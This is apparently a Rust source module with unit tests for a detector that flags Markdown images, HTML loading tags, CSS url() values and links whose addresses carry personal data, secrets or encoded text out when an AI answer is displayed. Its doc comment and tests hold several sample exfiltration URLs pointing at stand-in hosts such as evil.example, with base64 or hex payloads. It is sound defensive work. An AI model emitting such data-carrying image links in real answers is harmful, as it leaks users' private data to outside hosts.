//! Images and links that carry data out when an answer is shown.
//!
//! **Finds** (`exfiltration.image`): what a client loads by itself — Markdown images, definitions of references,
//! `<img>`, `<iframe>` and their like, CSS `url(…)` — whose address takes along personal data or a secret (rank 50), encoded text
//! or data in the host's name (40), a sentence (30), or a long parameter that looks like chance (20); or that comes
//! from a host that is not allowed, if hosts are (30). (`exfiltration.link`): links whose address takes along
//! personal data or a secret (40) or encoded text (30). Query, path, fragment, user info and host are looked at.
//!
//! **Does not find** data that is encrypted or spread over many short addresses, alternative text of more than 400
//! bytes or with brackets in it, what stands past 900 bytes of an address, and anything at an allowed host (`guards.allowed_hosts`).
//!
//! **Example**: `![logo](https://evil.example/p.png?d=YWRhQGV4YW1wbGUuY29t)`

use crate::detectors::Hit;
use crate::detectors::hosts::{Hosts, Ruled};
use crate::detectors::url::{Load, URL_BYTES_MAX, Url, is_url};
use crate::text::{CONSTRUCT_BYTES_MAX, Text};
use crate::{DetectorCard, Reach};

/// Alternative text that is looked past.
const ALT_BYTES_MAX: usize = 400;

const IMAGE: &str = "exfiltration.image";
const LINK: &str = "exfiltration.link";

pub(crate) const CARD: DetectorCard = DetectorCard {
    name: "exfiltration",
    kinds: &[IMAGE, LINK],
    reach: Reach::Held(CONSTRUCT_BYTES_MAX),
    summary: "Images and links that carry data out when an answer is shown.",
};

/// Tags whose addresses are loaded without a click.
const LOADING_TAGS: [&[u8]; 14] = [
    b"img", b"image", b"iframe", b"frame", b"video", b"audio", b"source", b"embed", b"object",
    b"link", b"input", b"body", b"script", b"track",
];

/// `![…](address)`, at the `!`.
pub(crate) fn markdown_image(text: &Text<'_>, hosts: &Hosts) -> Option<Hit> {
    if !text.starts_with(b"![") {
        return None;
    }
    let alt = text.run_within(2, ALT_BYTES_MAX, |byte| !matches!(byte, b']' | b'[' | b'\n'));
    if !text.has_at(2 + alt, b"](") {
        return None;
    }
    let open = alt + 4;
    let open = open + text.run_within(open, 8, |byte| matches!(byte, b' ' | b'<'));
    let (address, end) = destination(text, open);
    let closed = text.run_within(end, 100, |byte| byte != b')' && byte != b'\n');
    let len = if text.get(end + closed) == Some(b')') { end + closed + 1 } else { end };
    image(address, hosts, len)
}

/// `[name]: address`, at the `[`.
pub(crate) fn reference(text: &Text<'_>, hosts: &Hosts) -> Option<Hit> {
    if !matches!(text.back(0), None | Some(b'\n')) {
        return None;
    }
    let name = text.run_within(1, 80, |byte| byte != b']' && byte != b'\n');
    if !text.has_at(1 + name, b"]:") {
        return None;
    }
    let open = name + 3 + text.run_within(name + 3, 8, |byte| matches!(byte, b' ' | b'<'));
    let (address, end) = destination(text, open);
    image(address, hosts, end)
}

/// `<img src=…>` and its like, at the `<`.
pub(crate) fn tag(text: &Text<'_>, hosts: &Hosts) -> Option<Hit> {
    let name = text.run_within(1, 8, |byte| byte.is_ascii_alphabetic());
    let lower = text.slice(1, 1 + name).to_ascii_lowercase();
    if !LOADING_TAGS.contains(&lower.as_slice()) {
        return None;
    }
    let inside = text.run_within(1 + name, URL_BYTES_MAX, |byte| !matches!(byte, b'>' | b'<'));
    let tag = text.slice(1 + name, 1 + name + inside);
    let worst = addresses(tag).filter_map(|address| image(address, hosts, inside + name + 2));
    worst.max_by_key(|hit| hit.rank)
}

/// CSS `url(address)`, at the `u`.
pub(crate) fn css_url(text: &Text<'_>, hosts: &Hosts) -> Option<Hit> {
    let named = text.get(0)?.eq_ignore_ascii_case(&b'u')
        && text.get(1)?.eq_ignore_ascii_case(&b'r')
        && text.get(2)?.eq_ignore_ascii_case(&b'l')
        && text.get(3)? == b'(';
    if !named {
        return None;
    }
    let open = 4 + text.run_within(4, 4, |byte| matches!(byte, b' ' | b'"' | b'\''));
    let (address, end) = destination(text, open);
    image(address, hosts, end)
}

/// An address in running text or in a link, at its scheme.
pub(crate) fn link(address: &[u8], url: &Url<'_>, hosts: &Hosts) -> Option<Hit> {
    if hosts.rule(&url.host_name()) == Ruled::Allowed {
        return None;
    }
    let rank = match url.load() {
        Load::Values => 40,
        Load::Encoded => 30,
        Load::None | Load::Words | Load::Opaque => return None,
    };
    Some(Hit::new(&CARD, LINK, address.len(), rank))
}

fn image(address: &[u8], hosts: &Hosts, len: usize) -> Option<Hit> {
    let url = Url::of(address)?;
    let ruled = hosts.rule(&url.host_name());
    if ruled == Ruled::Allowed {
        return None;
    }
    let rank = match url.load() {
        Load::Values => 50,
        Load::Encoded => 40,
        Load::Words => 30,
        _ if ruled == Ruled::Unlisted => 30,
        Load::Opaque => 20,
        Load::None => return None,
    };
    Some(Hit::new(&CARD, IMAGE, len, rank))
}

/// The address from `open` on, and where it ends: as Markdown reads it, brackets in it come in pairs.
fn destination<'a>(text: &Text<'a>, open: usize) -> (&'a [u8], usize) {
    let (mut depth, mut len) = (0_usize, 0);
    while len < URL_BYTES_MAX {
        match text.get(open + len) {
            Some(b'(') => depth += 1,
            Some(b')') if depth == 0 => break,
            Some(b')') => depth -= 1,
            Some(byte) if is_url(byte) => {}
            _ => break,
        }
        len += 1;
    }
    (text.slice(open, open + len), open + len)
}

/// Everything in a tag that begins like an address, up to its end.
fn addresses(tag: &[u8]) -> impl Iterator<Item = &[u8]> {
    let starts = tag.windows(2).enumerate().filter(|(_, pair)| *pair == b"//").map(|(at, _)| {
        let before = tag.get(..at).unwrap_or_default();
        let scheme =
            before.iter().rev().take_while(|byte| byte.is_ascii_alphabetic() || **byte == b':');
        at - scheme.count()
    });
    starts.filter_map(|start| {
        let rest = tag.get(start..)?;
        rest.get(..rest.iter().take_while(|byte| is_url(**byte) && **byte != b')').count())
    })
}

#[cfg(test)]
mod tests {
    use crate::detectors::constructs::tests::check;

    #[test]
    fn images_that_carry_data_are_found_whole() {
        let image = "![logo](https://evil.example/p.png?d=YWRhQGV4YW1wbGUuY29t)";
        check(&format!("see {image}!"), &[(image, "exfiltration.image", 50)]);
        let image = "![x](<https://evil.example/p?q=the+key+is+under+the+mat> \"title\")";
        check(image, &[(image, "exfiltration.image", 30)]);
        let image = "<img alt='x' src=\"//evil.example/p?a=1&d=6d656574206174206d69646e69676874\">";
        check(image, &[(image, "exfiltration.image", 40)]);
        let reference = "[p]: https://evil.example/ada@example.com/1.png";
        check(&format!("![x][p]\n\n{reference}\n"), &[(reference, "exfiltration.image", 50)]);
        check(
            "background: url('https://e.example/?d=bWVldCBhdCBtaWRuaWdodA')",
            &[("url('https://e.example/?d=bWVldCBhdCBtaWRuaWdodA", "exfiltration.image", 40)],
        );
    }

    #[test]
    fn links_are_found_by_their_address() {
        check(
            "[here](https://e.example/?u=ada%40example.com) or not",
            &[("https://e.example/?u=ada%40example.com", "exfiltration.link", 40)],
        );
    }

    #[test]
    fn ordinary_images_and_links_are_not() {
        check("![build](https://img.shields.io/badge/build-passing-green?style=flat)", &[]);
        check("[search](https://duckduckgo.com/?q=how+to+bake+good+bread)", &[]);
        check("<img src='/static/logo.png' alt='a b c d'>", &[]);
    }

    #[test]
    fn a_long_alternative_text_is_passed_up_to_its_limit() {
        let address = "https://e.example/?u=ada%40example.com";
        let image = |alt: usize| format!("![{}]({address})", "a".repeat(alt));
        check(
            &image(super::ALT_BYTES_MAX),
            &[(&image(super::ALT_BYTES_MAX), "exfiltration.image", 50)],
        );
        check(&image(super::ALT_BYTES_MAX + 1), &[(address, "exfiltration.link", 40)]);
    }
}
